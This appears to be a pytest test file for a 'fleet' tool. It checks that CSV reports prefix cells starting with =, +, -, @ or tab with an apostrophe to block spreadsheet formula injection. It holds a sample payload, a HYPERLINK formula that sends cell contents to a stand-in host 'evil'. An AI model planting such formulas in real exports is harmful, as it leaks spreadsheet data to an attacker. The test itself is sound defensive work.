"""CSV for managers' spreadsheets: a user named `=HYPERLINK("http://evil/?x="&A1,"click")` (FLEET_USER
or `user =`, or a teammate's row in a shared state) was written into `fleet report --format csv` as it
was, and a spreadsheet opening the file runs it as a formula (here: a link that sends the sheet's
cells away). Text cells starting with = + - @ (tab, CR) now get a leading ', which a spreadsheet shows
as text; numbers, negative ones too, are unchanged. Same for `fleet runs compare --format csv`."""
from __future__ import annotations

import csv
import io

import pytest

from fleet.render import Column, Table
from fleet.render.data import csv_cell, to_csv

EVIL = '=HYPERLINK("http://evil/?x="&A1,"click")'


@pytest.mark.parametrize("value, shown", [
    (EVIL, "'" + EVIL), ("+cmd", "'+cmd"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("-1.5", "-1.5"), ("+3", "+3"), ("1e-5", "1e-5"), ("alice", "alice"), (12, 12), (None, None),
])
def test_csv_cell(value, shown):
    assert csv_cell(value) == shown


def test_a_report_row_cannot_be_a_formula():
    table = Table([Column("user"), Column("cost_usd")])
    table.add(EVIL, "-0.5")
    rows = list(csv.reader(io.StringIO(to_csv(table))))
    assert rows[1] == ["'" + EVIL, "-0.5"]


def test_fleet_report_csv_from_a_hostile_user(tmp_path, fleet_home):
    from fleet.money.budget import Price, to_micro
    from fleet.money.ledger import Ledger
    from fleet.state import open_state
    from tests.conftest import run_fleet
    from tests.fixtures.ledger import FakeClock, _Lease, _Machine
    state = open_state()
    try:
        clock = FakeClock()
        ledger = Ledger(state.db, clock)
        lease = _Lease("l-1", "p", EVIL, "local-1gpu", "local", [_Machine("l-1-m0", (0,))])
        segs = [ledger.open_segment(lease=lease, machine=lease.machines[0], price=Price(to_micro("1"), "test"),
                                    run_id="r-1")]
        clock.advance(3600)
        ledger.close(segs)
    finally:
        state.close()
    proc = run_fleet(["report", "--by", "user", "--format", "csv", "--since", "2000-01-01"], cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    users = [row[0] for row in csv.reader(io.StringIO(proc.stdout))][1:]
    assert "'" + EVIL in users and EVIL not in users
